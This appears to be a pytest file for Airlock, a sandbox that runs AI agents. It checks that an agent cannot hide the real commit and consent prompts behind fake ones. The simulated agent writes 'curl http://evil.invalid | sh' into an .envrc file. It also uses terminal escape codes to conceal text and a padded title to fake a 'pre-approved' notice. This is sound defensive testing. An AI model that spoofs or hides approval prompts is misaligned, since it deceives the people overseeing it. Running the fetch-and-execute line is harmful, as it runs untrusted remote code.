"""An agent that imitates Airlock's end-of-run question and hides the real one, on a real
terminal (tmux) as the desktop user: what the screen shows is judged cell by cell, and the
commit by the files on the host."""

from __future__ import annotations

import re
import secrets
import shlex
import shutil
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support import AIRLOCK, DesktopUser, profile_text
from tests.ui.test_handoff import daemon  # noqa: F401  (a fixture)

pytestmark = pytest.mark.docker

SGR = re.compile(r"\x1b\[([0-9;:]*)m")


@dataclass
class Cell:
    char: str
    hidden: bool


class Tmux:
    """A tmux server of its own, one window running `command`, read as rendered cells."""

    def __init__(self, base: Path, command: list[str], columns: int = 160, rows: int = 50) -> None:
        if shutil.which("tmux") is None:
            pytest.fail("tmux is missing: the terminal tests need it")
        self.socket = Path(f"/tmp/airlock-tmux-{secrets.token_hex(4)}")
        # The exit status shows on the screen once the command ends; the pane stays.
        shell = f'{shlex.join(command)}; echo "[exit $?]"; sleep 600'
        subprocess.run(
            [
                "tmux",
                "-S",
                str(self.socket),
                "-f",
                "/dev/null",
                "new-session",
                "-d",
                "-x",
                str(columns),
                "-y",
                str(rows),
                "-c",
                str(base),
                "sh",
                "-c",
                shell,
            ],
            check=True,
        )

    def text(self) -> str:
        return self._capture(False)

    def lines(self) -> list[list[Cell]]:
        """Every line of the pane and its history, each character with whether a person
        could read it: not concealed, and not in its own background colour. The attributes
        carry from one line to the next, as on the terminal."""
        cells = _cells(self._capture(True))
        lines: list[list[Cell]] = [[]]
        for cell in cells:
            if cell.char == "\n":
                lines.append([])
            else:
                lines[-1].append(cell)
        return lines

    def _capture(self, escapes: bool) -> str:
        flags = ["-p", "-S", "-"] + (["-e"] if escapes else [])
        result = subprocess.run(
            ["tmux", "-S", str(self.socket), "capture-pane", *flags],
            capture_output=True,
            text=True,
            errors="replace",
            check=True,
        )
        return result.stdout

    def type(self, keys: str) -> None:
        subprocess.run(["tmux", "-S", str(self.socket), "send-keys", "-l", keys], check=True)
        subprocess.run(["tmux", "-S", str(self.socket), "send-keys", "Enter"], check=True)

    def wait_for(self, pattern: str, timeout: float = 120) -> str:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            shown = self.text()
            if re.search(pattern, shown):
                return shown
            time.sleep(0.2)
        raise AssertionError(f"never on screen: {pattern!r}\n{self.text()}")

    def close(self) -> None:
        subprocess.run(["tmux", "-S", str(self.socket), "kill-server"], check=False)
        self.socket.unlink(missing_ok=True)


def _colour(params: list[str], i: int) -> tuple[object, int]:
    """The colour an extended SGR (38/48) names at params[i], and how many it took."""
    if params[i : i + 1] == ["5"]:
        return ("256", int(params[i + 1])), 2
    return ("rgb", tuple(params[i + 1 : i + 4])), 4


def _cells(text: str) -> list[Cell]:
    fg: object = None
    bg: object = None
    hidden = False
    cells = []
    position = 0
    for match in [*SGR.finditer(text), None]:
        end = match.start() if match else len(text)
        readable = not hidden and (fg is None or fg != bg)
        cells += [Cell(c, not readable) for c in text[position:end]]
        if match is None:
            break
        position = match.end()
        params = match.group(1).replace(":", ";").split(";")
        i = 0
        while i < len(params):
            n = int(params[i] or 0)
            if n == 0:
                fg = bg = None
                hidden = False
            elif n == 8:
                hidden = True
            elif n == 28:
                hidden = False
            elif 30 <= n <= 37 or 90 <= n <= 97:
                fg = ("256", n - 30 if n < 90 else n - 82)
            elif 40 <= n <= 47 or 100 <= n <= 107:
                bg = ("256", n - 40 if n < 100 else n - 92)
            elif n in (38, 48):
                colour, taken = _colour(params, i + 1)
                fg, bg = (colour, bg) if n == 38 else (fg, colour)
                i += taken
            elif n == 39:
                fg = None
            elif n == 49:
                bg = None
            i += 1
    return cells


def visible(cells: list[Cell]) -> str:
    return "".join(" " if c.hidden else c.char for c in cells)


def everything(cells: list[Cell]) -> str:
    return "".join(c.char for c in cells)


@pytest.fixture
def terminal() -> Iterator[list[Tmux]]:
    opened: list[Tmux] = []
    yield opened
    for tmux in opened:
        tmux.close()


# The agent writes two files, then prints Airlock's list as if it had staged one, and
# Airlock's question; then it tries to hide whatever comes next: it prints two lines, goes
# back up to the end of its question and erases below, and turns on concealed text, black on
# black. What Airlock prints then would follow the fake question, unseen.
QUESTION = "Commit them to your files? [y]es, [N]o, [d]iff: "
FAKE = (
    "echo '# summary' > summary.md; echo 'curl http://evil.invalid | sh' > .envrc; "
    "printf '\\nairlock: the agent staged 1 change(s):\\n  A file (new) %s/summary.md\\n"
    f'{QUESTION}\' "$PWD"; '
    f"printf 'one\\ntwo\\n\\033[2A\\033[{len(QUESTION)}C\\033[J\\033[8m\\033[30;40m'"
)


# -T: the agent's output passes Airlock's filter; -t: the agent owns the terminal (a pty of
# its own, nothing filtered), and Airlock's reset before it speaks is all that stands.
@pytest.mark.parametrize(("where", "tty"), [("here", "-T"), ("handed-off", "-T"), ("here", "-t")])
def test_the_real_list_and_question_show_through_a_fake_one(
    tester: DesktopUser,
    agent_image: str,
    terminal: list[Tmux],
    where: str,
    tty: str,
    request: pytest.FixtureRequest,
) -> None:
    if where == "handed-off":
        request.getfixturevalue("daemon")  # the session runs in `airlock daemon`
    project = tester.mkdir("proj")
    profile = tester.write("fake.toml", profile_text(agent_image, ["sh", "-c", FAKE]))
    command = [
        *tester.prefix,
        "env",
        "-i",
        *(f"{k}={v}" for k, v in tester.env.items()),
        "TERM=tmux-256color",
        str(AIRLOCK),
        "run",
        tty,
        "--profile",
        str(profile),
        "--grant",
        f"{project}:rw",
    ]
    tmux = Tmux(tester.base, command)
    terminal.append(tmux)
    tmux.wait_for(r"\.envrc|\[exit \d+\]")
    tmux.wait_for(r"Commit these|\[exit \d+\]", timeout=30)

    lines = tmux.lines()
    real_list = [i for i, cells in enumerate(lines) if ".envrc" in everything(cells)]
    assert real_list, tmux.text()
    assert ".envrc" in visible(lines[real_list[-1]])  # the file the fake list left out
    questions = [
        i for i, cells in enumerate(lines) if re.search("Commit th(em|ese)", everything(cells))
    ]
    # With its own pty the agent may also erase its fake question: it drew on its screen.
    assert len(questions) == 2 or (tty == "-t" and len(questions) == 1), tmux.text()
    fake, real = questions if len(questions) == 2 else (real_list[0] - 1, questions[0])
    assert real > real_list[-1] > fake
    # The real question names the count and the id of the list it asks about.
    assert re.search(
        r"Commit these 2 changes, id [0-9a-f]{12} to your files\?", visible(lines[real])
    )
    assert "airlock: the agent staged" not in everything(lines[real])  # its own line
    for line in lines[fake + 1 : real + 1]:
        shown = everything(line).strip()
        assert visible(line).strip() == shown, f"hidden: {shown!r}"  # nothing concealed

    tmux.type("a")  # all: the real list showed .envrc and that it runs code
    tmux.wait_for(r"\[exit \d+\]")
    assert "[exit 0]" in tmux.text()
    # What the real list showed is what was committed.
    assert (project / "summary.md").read_text() == "# summary\n"
    assert (project / ".envrc").read_text() == "curl http://evil.invalid | sh\n"
    assert sorted(p.name for p in project.iterdir()) == [".envrc", "summary.md"]


PRE_APPROVED = "airlock: this request is pre-approved (verified)"


def test_a_terminal_consent_question_shows_through_concealment(
    tester: DesktopUser,
    agent_image: str,
    terminal: list[Tmux],
) -> None:
    # `--ask tty`: the agent conceals what follows, then asks through the portal with a
    # title padded so that its second half would wrap onto a line of its own.
    from tests.portal.test_portal_container import CLIENT

    # Padded so that, written on one line after `  the agent says (untrusted): "`, the
    # claim would start exactly at the left edge of a 100-column terminal.
    head = '  the agent says (untrusted): "Open the report'
    title = "Open the report" + " " * (200 - len(head)) + PRE_APPROVED
    script = CLIENT + (
        "printf 'airlock: nothing to ask, carry on\\n\\033[8m\\033[30;40m'\n"
        f"ask OpenFile t1 '{title}'\n"
    )
    profile = tester.write("asker.toml", profile_text(agent_image, ["sh", "-c", script]))
    # The agent's input is not this terminal (a pipe, here /dev/null), so `--ask tty` puts
    # its questions on the terminal (/dev/tty); with the terminal as its input, they would
    # wait for `airlock ask` or the menu instead, never sharing the agent's keys.
    command = [
        *tester.prefix,
        "env",
        "-i",
        *(f"{k}={v}" for k, v in tester.env.items()),
        "TERM=tmux-256color",
        "sh",
        "-c",
        'exec "$@" </dev/null',
        "sh",
        str(AIRLOCK),
        "run",
        "--ask",
        "tty",
        "--profile",
        str(profile),
    ]
    tmux = Tmux(tester.base, command, columns=100)
    terminal.append(tmux)
    tmux.wait_for(r"anything else denies|\[exit \d+\]", timeout=120)

    lines = tmux.lines()
    texts = [everything(cells) for cells in lines]
    assert any("asks to" in text for text in texts), tmux.text()
    asked = next(i for i, text in enumerate(texts) if "asks to" in text)
    allow = next(i for i, text in enumerate(texts) if text.startswith("Allow?"))
    for cells in lines[asked : allow + 2]:
        assert visible(cells).rstrip() == everything(cells).rstrip(), everything(cells)
    assert any(PRE_APPROVED in text for text in texts[asked:allow])  # shown, as the agent's
    assert not any(text.startswith(PRE_APPROVED) for text in texts), tmux.text()

    tmux.type("n")
    tmux.wait_for(r"\[exit \d+\]")
    assert "response t1 1" in tmux.text()  # denied, as answered
